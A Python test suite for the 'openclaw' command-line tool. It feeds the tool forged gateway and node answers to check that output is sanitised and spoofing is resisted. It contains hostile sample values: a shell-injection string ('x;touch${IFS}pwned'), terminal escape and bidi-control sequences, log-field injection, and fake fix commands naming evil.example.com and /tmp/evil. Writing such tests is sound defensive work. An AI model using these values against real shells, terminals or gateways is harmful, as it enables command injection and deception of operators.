"""What gateways and nodes say is never believed: numbers, names, texts. Each test is an attack on the command line or a node."""

import base64
import json
import os
import re
import resource
import subprocess
import threading

from harness import Client, check, contains, equal, paired_node, run_tests, usable, wait_until
from lying_gateway import LyingGateway, node

SECRET = "a-secret-of-this-machine-0123456789"


def answer_of(payload):
    """What node.invoke answers with."""
    return '{"ok":true,"nodeId":"%s","command":"x","payload":%s,"payloadJSON":null}' % (
        "a" * 64, payload if isinstance(payload, str) else json.dumps(payload))


def test_a_node_that_took_more_than_it_was_given_reads_no_memory(test):
    home = test.machine("home")
    home.config({"gateway": {"auth": {"token": SECRET}}})
    for taken in ("100000", "2147483648", "-70000", "9007199254740993", "1e308", "6.5", '"5"', "null", "7"):
        liar = LyingGateway({"node.list": {"nodes": [node()]}, "node.invoke": answer_of('{"taken":%s}' % taken)})
        done = home.cli("nodes", "runs", "write", "--node", "box", "h-100000", "hello", port=liar.port, code=None)
        sent = [base64.b64decode(p["params"]["data"]) for p in liar.requests("node.invoke")]
        check(sent == [b"hello\n"], f"{sum(map(len, sent))} bytes are sent when the node says it took {taken}")
        check(done.returncode != 0, f"taken {taken} is no success")
        contains(done.err, "how much of 6 bytes", f"the complaint about {taken}")
        liar.close()


def test_a_node_that_takes_it_piece_by_piece_gets_all_of_it(test):
    taken = []

    def take(_, params):
        data = base64.b64decode(params["params"]["data"])
        taken.append(data[:4])
        return answer_of({"taken": len(data[:4])})

    home = test.machine("home")
    liar = LyingGateway({"node.list": {"nodes": [node()]}, "node.invoke": take})
    home.cli("nodes", "runs", "write", "--node", "box", "h-100000", "hello", "you", port=liar.port)
    equal(b"".join(taken), b"hello you\n", "what arrived")


def test_lists_in_the_place_of_objects_crash_nothing(test):
    """Their items have no names."""
    home = test.machine("home")
    row = node(permissions=["camera", "x"], gates=["a"], gateStates=["x"], switches=["s"])
    liar = LyingGateway({"node.list": {"nodes": [row]}, "node.describe": row, "exec.approval.list": [["a"], {"id": "1", "request": ["x"]}],
                         "node.pair.list": {"pending": ["a"], "paired": [["x"], "y"]}, "device.pair.list": {"pending": [["z"]], "paired": ["q"]},
                         "exec.approvals.node.get": {"file": {"version": 1, "agents": ["a", {"allowlist": ["x"]}]}, "hash": "h"}})
    for args in (("nodes", "describe", "--node", "box"), ("nodes", "status"), ("nodes", "list"), ("nodes", "pending"),
                 ("approvals", "get", "--node", "box"), ("approvals", "pending"), ("devices", "list"), ("doctor",)):
        done = home.cli(*args, port=liar.port, code=None)
        check(done.returncode in (0, 1, 2), f"{args} ended with {done.returncode}: {done.err[-600:]}")
        check("Sanitizer" not in done.err and "runtime error" not in done.err, f"{args}: {done.err[-600:]}")
    liar.close()


ESCAPES = "\x1b]0;gotcha\x07\x1b[2J\u009b31m"


def chatty(payload, **other):
    """A node.invoke that talks before it answers."""
    def answer(link, params):
        told = {"requestId": link.request_id, "nodeId": params["nodeId"], "invokeId": "i-1", "seq": 0, "chunk": ESCAPES,
                "stream": "stdout", **other}
        link.event("node.invoke.progress", told)
        link.event("node.invoke.progress", {**told, "stream": "stderr"})
        return answer_of({"plan": {"argv": ["true"]}} if params["command"] == "system.run.prepare" else payload)
    return answer


def test_progress_of_a_call_is_never_printed_in_front_of_its_result(test):
    home = test.machine("home")
    picture = {"format": "jpg", "base64": base64.b64encode(b"\xff\xd8\xffpicture").decode(), "width": 1, "height": 1}
    ran = {"exitCode": 0, "timedOut": False, "success": True, "stdout": "done", "stderr": "", "error": None}
    cases = [
        (picture, ["nodes", "camera", "snap", "--node", "box", "--facing", "front", "--out", "-"]),
        (picture, ["nodes", "screen", "snapshot", "--node", "box", "--out", "-"]),
        (picture, ["nodes", "canvas", "snapshot", "--node", "box", "--json"]),
        ({"lat": 1, "lon": 2}, ["nodes", "location", "get", "--node", "box"]),
        ({"lat": 1, "lon": 2}, ["nodes", "location", "get", "--node", "box", "--json"]),
        ({"ok": True}, ["nodes", "notify", "--node", "box", "--title", "hi"]),
        (ran, ["nodes", "run", "--node", "box", "--json", "--", "true"]),
        ({"handle": "h-1"}, ["nodes", "run", "--node", "box", "--background", "--", "true"]),
        ({"runs": []}, ["nodes", "runs", "list", "--node", "box"]),
        ({"ok": True}, ["nodes", "invoke", "--node", "box", "--command", "system.which", "--params", "{}"]),
    ]
    for payload, command in cases:
        liar = LyingGateway({"node.list": {"nodes": [node()]}, "node.invoke": chatty(payload)})
        done = home.cli(*command, port=liar.port, code=None)
        check(liar.requests("node.invoke"), f"{command} asks the node: {done.err}")
        for text in (done.out, done.err):
            check("gotcha" not in text and "\x1b" not in text and "\u009b" not in text,
                  f"{' '.join(command)} printed {text!r}")
        liar.close()


def test_progress_of_another_call_or_node_is_not_printed_by_a_run(test):
    home = test.machine("home")
    ran = {"exitCode": 0, "timedOut": False, "success": True, "stdout": "done", "stderr": "", "error": None}
    for other in ({"requestId": "somebody-elses"}, {"nodeId": "b" * 64}, {"requestId": None}, {"requestId": ""}):
        liar = LyingGateway({"node.list": {"nodes": [node()]}, "node.invoke": chatty(ran, **other)})
        done = home.cli("nodes", "run", "--node", "box", "--", "true", port=liar.port)
        equal(done.out, "done", f"output of the run, progress is of {other}")
        liar.close()
    # Its own is printed as it comes, byte by byte: that is what a run is for.
    liar = LyingGateway({"node.list": {"nodes": [node()]}, "node.invoke": chatty({**ran, "live": True})})
    equal(home.cli("nodes", "run", "--node", "box", "--", "true", port=liar.port).out, ESCAPES, "the run's own output")


VICTIM, ROGUE = "aa" * 32, "bb" * 32


def test_a_node_that_calls_itself_by_the_id_of_another_is_never_meant(test):
    home = test.machine("home")
    ran = {"exitCode": 0, "timedOut": False, "success": True, "stdout": "", "stderr": "", "error": None}
    away = node(VICTIM, "server", connected=False)
    rogue = node(ROGUE, VICTIM)
    answers = {"node.list": {"nodes": [rogue, away]}, "node.invoke": answer_of(ran), "node.pair.remove": {"nodeId": VICTIM}}
    liar = LyingGateway(answers)
    home.cli("nodes", "remove", "--node", VICTIM, port=liar.port)
    home.cli("nodes", "run", "--node", VICTIM, "--", "true", port=liar.port, code=None)
    equal(liar.requests("node.pair.remove"), [{"nodeId": VICTIM}], "what is removed")
    equal({p["nodeId"] for p in liar.requests("node.invoke")}, {VICTIM}, "whom a command is meant for")
    # It took the name, too: while the other is away nobody may guess.
    answers["node.list"] = {"nodes": [node(ROGUE, "Server"), away]}
    liar.asked.clear()
    for command in (["nodes", "run", "--node", "server", "--", "true"], ["nodes", "remove", "--node", "server"]):
        done = home.cli(*command, port=liar.port, code=None)
        contains(done.err, f"ambiguous node: server (matches: {ROGUE} (Server), {VICTIM} (server))", "the refusal")
    equal(liar.requests("node.invoke") + liar.requests("node.pair.remove"), [], "what is asked for")
    # Its own is gone from the list: its id does not lead to somebody else.
    answers["node.list"] = {"nodes": [rogue]}
    contains(home.cli("nodes", "remove", "--node", VICTIM, port=liar.port, code=None).err, "unknown node", "the refusal")
    equal(liar.requests("node.pair.remove"), [], "what is removed")


def test_a_name_the_owner_gave_is_not_taken_over(test):
    home, gateway, _, _ = paired_node(test)
    home.cli("nodes", "rename", "--node", "box", "--name", "kitchen", port=gateway.port)
    mine = home.cli_json("nodes", "status", "--json", port=gateway.port)["nodes"][0]
    equal((mine["displayName"], mine["displayNameSource"]), ("kitchen", "owner"), "the name and who gave it")
    rogue = test.machine("rogue")
    rogue.approvals("full")
    rogue.node(gateway.port, name="kitchen")
    wait_until(lambda: home.cli_json("nodes", "pending", "--json", port=gateway.port), "the other's request")
    home.cli("nodes", "approve", "--yes", port=gateway.port)
    wait_until(lambda: len(usable(home, gateway.port, "kitchen")) == 2, "both nodes")
    found = home.cli_json("nodes", "describe", "--node", "kitchen", "--json", port=gateway.port)
    equal(found["nodeId"], mine["nodeId"], "the node that is meant")


def rogue_node(test, home, gateway):
    """A node of our own making, approved for system.run; gives (client, id)."""
    identity = test.identity()
    client = Client(gateway.port)
    check(client.connect(role="node", identity=identity, commands=["system.run"], caps=["system"])["ok"], "connect")
    wait_until(lambda: home.cli_json("nodes", "pending", "--json", port=gateway.port), "its request")
    home.cli("nodes", "approve", "--yes", port=gateway.port)
    return client, identity.device_id


def test_a_node_does_not_write_the_record_of_the_gateway(test):
    home = test.machine("gw")
    gateway = home.gateway()
    rogue, name = rogue_node(test, home, gateway)
    desk = Client(gateway.port)
    check(desk.connect(mode="ui", client_id="openclaw-macos")["ok"], "connect")
    lie = {"gate": "approval", "gateEntry": "allow-once by the owner", "decision": "allow-once", "decidedBy": "the owner",
           "decider": {"deviceId": "00"}, "approvalId": "a-1", "by": {"name": "the owner"}, "argv": ["true"], "kind": "approval"}
    for reports in (True, False):
        asked = desk.send("node.invoke", {"nodeId": name, "command": "system.run", "idempotencyKey": f"k-{reports}",
                                          "params": {"command": ["rm", "-rf", "x"], "background": not reports}})
        request = rogue.event("node.invoke.request")
        payload = {"exitCode": 0, "timedOut": False, "success": True, "stdout": "", "stderr": "", "error": None, **lie}
        if reports:
            rogue.ok("node.event", {"event": "node.exec.ended",
                                    "payload": {"invokeId": request["id"], "outcome": "exited", "exitCode": 0, **lie}})
        else:
            payload = {"handle": "h-1", **lie}
        rogue.ok("node.invoke.result", {"id": request["id"], "nodeId": name, "ok": True, "payload": payload})
        check(desk.answer(asked)["ok"], "the run")
        line = desk.ok("exec.audit.list", {"limit": 1})["items"][0]
        equal((line["kind"], line["gate"], line["argv"]), ("run", "node-policy", ["rm", "-rf", "x"]), "the gateway's record")
        equal([key for key in ("gateEntry", "decision", "decidedBy", "decider", "approvalId") if key in line], [], "claims in it")
        equal((line["nodeSays"]["gate"], line["nodeSays"]["gateEntry"]), ("approval", "allow-once by the owner"), "the claim")
        last = line["end" if reports else "started"]
        equal((last["source"], [key for key in ("gate", "gateEntry", "decision") if key in last]), ("node", []), "the end")
    shown = home.cli("approvals", "history", port=gateway.port).out
    equal(" ".join(shown.replace("│", " ").split()).count("node says:"), 2, shown)
    check("approval by" not in shown, shown)


BAIT = "x;touch${IFS}pwned"


def pasted(test, home, text):
    """Lets a shell run every line from each command of ours on, as a person would who copies it."""
    for line in text.splitlines():
        for part in [line[m.start():] for m in re.finditer("openclaw ", line)]:
            subprocess.run(["sh", "-c", part], cwd=home.home, env={"PATH": "/usr/bin:/bin"}, stdin=subprocess.DEVNULL,
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=20, check=False)
    check(not os.path.exists(os.path.join(home.home, "pwned")), f"a shell that is given this runs what a gateway says:\n{text}")


def test_commands_to_paste_hold_no_words_of_a_gateway_that_a_shell_obeys(test):
    home = test.machine("home")
    request = {"requestId": BAIT, "nodeId": "a" * 64, "deviceId": "a" * 64, "displayName": "box", "role": "node", "ts": 1}
    ran = {"exitCode": 0, "timedOut": False, "success": True, "stdout": "", "stderr": "", "error": None,
           "leftBehind": {"handle": BAIT}}
    row = node(pendingRequestId=BAIT, approvalState="pending-approval", pendingDeclaredCommands=["camera.snap"], switches={
        "camera": {"on": False, "gate": "\x1b[2J", "fix": f"openclaw node enable {BAIT}"}},
        gates={"system.run": {"declared": True, "approved": False, "policy": True, "gate": "surface",
                              "fix": f"openclaw nodes approve {BAIT}"}})
    answers = {"node.list": {"nodes": [row]}, "node.describe": row, "node.pair.list": {"pending": [request], "paired": []},
               "device.pair.list": {"pending": [request], "paired": []}, "node.invoke": answer_of(ran),
               "device.pair.setupCode": {"setupCode": BAIT, "gatewayUrl": "wss://x", "expiresAtMs": 1}, "health": {"ok": True}}
    for command in (["devices", "join-code"], ["nodes", "status"], ["nodes", "pending"], ["nodes", "describe", "--node", "box"],
                    ["nodes", "approve"], ["devices", "approve"], ["nodes", "run", "--node", "box", "--", "true"], ["doctor"]):
        for more in ([], ["--json"]):
            liar = LyingGateway(answers)
            done = home.cli(*command[:2], *more, *command[2:], port=liar.port, code=None)
            check(liar.asked, f"{command} asks the gateway: {done.err}")
            check("\x1b" not in done.out + done.err, f"{command} printed {done.out!r}")
            pasted(test, home, done.err + ("" if more else done.out))
            liar.close()


def test_a_node_does_not_speak_as_the_command_line(test):
    home = test.machine("gw")
    gateway = home.gateway()
    rogue, name = rogue_node(test, home, gateway)
    fixes = ("openclaw devices approve --latest --yes", "openclaw node run --host evil.example.com --port 443 --tls",
             "on the node run: openclaw node run --pair abcdef", "openclaw approvals security full --node all",
             "on the node run: openclaw approvals security full --node other",
             "on the node run: openclaw approvals allowlist add /tmp/evil --node other",
             "restart the node, then openclaw devices approve --latest")

    def refuse(words):
        for words_of_one in words:
            request = rogue.event("node.invoke.request")
            rogue.ok("node.invoke.result", {"id": request["id"], "nodeId": name, "ok": False,
                                            "error": {"code": "UNAVAILABLE", "message": words_of_one}})

    said = [f"{code}: no (gate: {gate}; fix: {fix})" for fix in fixes
            for code, gate in (("SYSTEM_RUN_DENIED", "local exec approvals"), ("Error: X", "g"))]
    answering = threading.Thread(target=refuse, args=([words for words in said for _ in range(2)],), daemon=True)
    answering.start()
    for words in said:
        for more in ([], ["--json"]):
            done = home.cli("nodes", "invoke", "--node", name, "--command", "system.run", "--params", '{"command":["true"]}', *more,
                            port=gateway.port, code=None)
            fix = words.partition("fix: ")[2][:-1]
            shown = done.out + done.err
            contains(shown, f"the node says: {fix}", words)
            equal(shown.count(fix), shown.count(f"the node says: {fix}"), f"{shown!r} has it unmarked")
            equal(shown.count("says: the node says"), 0, shown)
    answering.join(30)


def test_a_name_makes_no_fields_of_the_log(test):
    home = test.machine("gw")
    gateway = home.gateway()
    client = Client(gateway.port)
    params = client.connect_params(role="node", identity=test.identity(), commands=["system.run"], caps=["system"])
    params["client"]["displayName"] = 'x" device=0000aaaa ip=9.9.9.9 y="\\'
    check(client.call("connect", params)["ok"], "connect")
    line = gateway.wait_for(r"connected role=node .*").group(0)
    contains(line, r'client="x\" device=0000aaaa ip=9.9.9.9 y=\"\\" device=', "the line")


def test_a_node_that_waits_does_not_print_a_command_with_words_of_a_gateway(test):
    class Refusing(LyingGateway):
        def _answer(self, link, frame):
            self.asked.append((frame["method"], frame.get("params")))
            link.send({"type": "res", "id": frame["id"], "ok": False, "error": {
                "code": "NOT_PAIRED", "message": "pairing required", "details": {
                    "code": "PAIRING_REQUIRED", "requestId": BAIT + "\u202e\u009b31m", "reason": "not-paired"}}})

    liar = Refusing({})
    box = test.machine("box")
    waiting = box.node(liar.port)
    waiting.wait_for("waiting for approval")
    pasted(test, box, waiting.output())
    check("pwned" not in waiting.output(), waiting.output())


def test_a_gateway_that_refuses_does_not_name_what_opens_this_machine(test):
    """Whoever holds the address can be that gateway; what it says is printed where its command would work."""
    refusals = ({"remedy": "open-input"}, {"remedy": "security-full"}, {"remedy": "add-program", "subject": "/tmp/evil"},
                {"remedy": "enable-switch", "subject": "screen"}, {"remedy": "start-gateway"},
                {"fix": "openclaw approvals security full"}, {"fix": "on the node run: openclaw node enable screen"},
                {"cause": "try-later", "fix": "openclaw approvals ask off"})
    messages = ["no"] * len(refusals) + ["no (gate: local exec approvals; fix: openclaw approvals security full)"]
    box = test.machine("box")
    for details, message in zip((*refusals, {}), messages):
        class Refusing(LyingGateway):
            def _answer(self, link, frame, details=details, message=message):
                self.asked.append((frame["method"], frame.get("params")))
                link.send({"type": "res", "id": frame["id"], "ok": False,
                           "error": {"code": "UNAVAILABLE", "message": message, "details": details}})

        liar = Refusing({})
        node = box.node(liar.port)
        node.wait_for("retrying")
        shown = node.output() + box.cli("nodes", "status", port=liar.port, code=None).err
        node.stop()
        for command in ("openclaw approvals", "openclaw node enable", "openclaw gateway run"):
            for line in shown.splitlines():
                check(command not in line or "the gateway says: " in line.partition(command)[0], f"{details}: {line!r}")


def test_a_gateway_that_answers_does_not_name_what_opens_the_machine_of_who_asks(test):
    """Its words about a node name the node, or say that they are for the node's own machine."""
    answers = ({"remedy": "open-input"}, {"remedy": "security-full"}, {"remedy": "add-program", "subject": "/tmp/evil"},
               {"fix": "openclaw approvals security full"}, {"fix": "openclaw approvals allowlist add /tmp/evil"},
               {"gate": "local exec approvals", "fix": "openclaw approvals ask on-miss"})
    home = test.machine("home")
    for details in answers:
        class Answering(LyingGateway):
            def _answer(self, link, frame, details=details):
                if frame.get("method") == "connect":
                    super()._answer(link, frame)
                else:
                    link.send({"type": "res", "id": frame["id"], "ok": False,
                               "error": {"code": "UNAVAILABLE", "message": "no", "details": details}})

        shown = home.cli("nodes", "status", port=Answering({}).port, code=None).err
        contains(shown, "openclaw approvals", f"{details}")
        for line in shown.splitlines():
            before, _, command = line.partition("openclaw approvals")
            check(not command or "--node" in command or "on the node run: " in before or "the gateway says: " in before, f"{details}: {line!r}")


STEERING = "\x7f\x85\x9b31m\u061c\u200b\u200e\u2028\u202e\u2066\ufeff\U000e0041"


def test_json_of_a_peer_does_not_steer_the_terminal_and_means_the_same(test):
    home = test.machine("home")
    row = node(name="box" + STEERING, pathEnv=STEERING)

    def listen(link, _):
        link.event("agent.requested", {"message": STEERING, "nodeId": "a" * 64, "event": "forged"})
        return {}

    item = {"id": "a-1", "createdAtMs": 1, "expiresAtMs": 9999999999999, "event": "forged",
            "request": {"command": STEERING, "commandArgv": [STEERING], "host": "node", "nodeId": "a" * 64}}

    answers = {"node.list": {"nodes": [row]}, "node.describe": row, "agent.requests.listen": listen,
               "exec.approval.list": [item], "node.pair.list": {"pending": [], "paired": []}, "device.pair.list": {"pending": []}}
    for command in (["nodes", "status", "--json"], ["nodes", "describe", "--node", "a" * 64, "--json"],
                    ["nodes", "requests", "--json", "--count", "1"], ["approvals", "pending", "--json"]):
        liar = LyingGateway(answers)
        done = home.cli(*command, port=liar.port)
        check(not set(STEERING) - set("31mA") & set(done.out), f"{command} printed {done.out!r}")
        check(STEERING in json.dumps(json.loads(done.out), ensure_ascii=False).replace("\\u007f", "\x7f"), f"{command} says the same")
        liar.close()


def test_a_device_token_that_no_gateway_takes_back_is_not_kept(test):
    for token in ("t" * 70000, "t" * 4097, "a b", "t\nx", "\u00e9"):
        box = test.machine(f"box-{len(token)}-{ord(token[1])}" if len(token) > 1 else "box-1")
        liar = LyingGateway({}, hello={"auth": {"deviceToken": token, "role": "node", "scopes": ["s" * 100000] * 3}})
        waiting = box.node(liar.port)
        waiting.wait_for("not kept")
        check(not os.path.exists(os.path.join(box.state, "identity", "device-auth.json")), f"a token of {len(token)} is stored")
        waiting.stop()
        liar.close()


def test_a_bad_token_in_the_file_is_dropped_and_locks_nobody_out(test):
    home, gateway, box, node_process = paired_node(test)
    node_process.stop()
    path = os.path.join(box.state, "identity", "device-auth.json")
    with open(path, encoding="utf-8") as f:
        stored = json.load(f)
    for entry in stored["tokens"].values():
        entry["token"] = "t" * 70000
    with open(path, "w", encoding="utf-8") as f:
        json.dump(stored, f)
    again = box.node(gateway.port, env={"OPENCLAW_GATEWAY_TOKEN": None})
    again.wait_for("it is not used, and was removed")
    with open(path, encoding="utf-8") as f:
        check("t" * 5000 not in f.read(), "the token is still there")
    again.stop()
    box.node(gateway.port)
    wait_until(lambda: usable(home, gateway.port, "box"), "the node, back with the shared token")


def cpu_s(home, port, *command):
    """Processor time of the command line: no clock on the wall is asked."""
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    done = home.cli(*command, port=port)
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    return done, after.ru_utime - before.ru_utime


def test_a_flood_of_requests_costs_no_more_than_its_length(test):
    home = test.machine("home")
    times = []
    for count in (15000, 60000):
        pending = [{"requestId": f"r-{i}", "nodeId": f"n-{i}", "ts": 1700000000000 + i} for i in range(count)]
        liar = LyingGateway({"node.pair.list": {"pending": pending, "paired": []}, "device.pair.list": {"pending": []}})
        done, used = cpu_s(home, liar.port, "nodes", "pending")
        times.append(used)
        contains(done.out, f"… and {count - 100} more; all of them: openclaw nodes pending --json", "the end")
        check(len(done.out.splitlines()) < 120, f"{len(done.out.splitlines())} lines")
        contains(done.out, f"r-{count - 1} ", "the newest")
        liar.close()
    # Four times as many: about four times the work, where it was sixteen times.
    check(times[1] < 9 * times[0] + 0.2, f"processor time {times}")


if __name__ == "__main__":
    run_tests(globals())
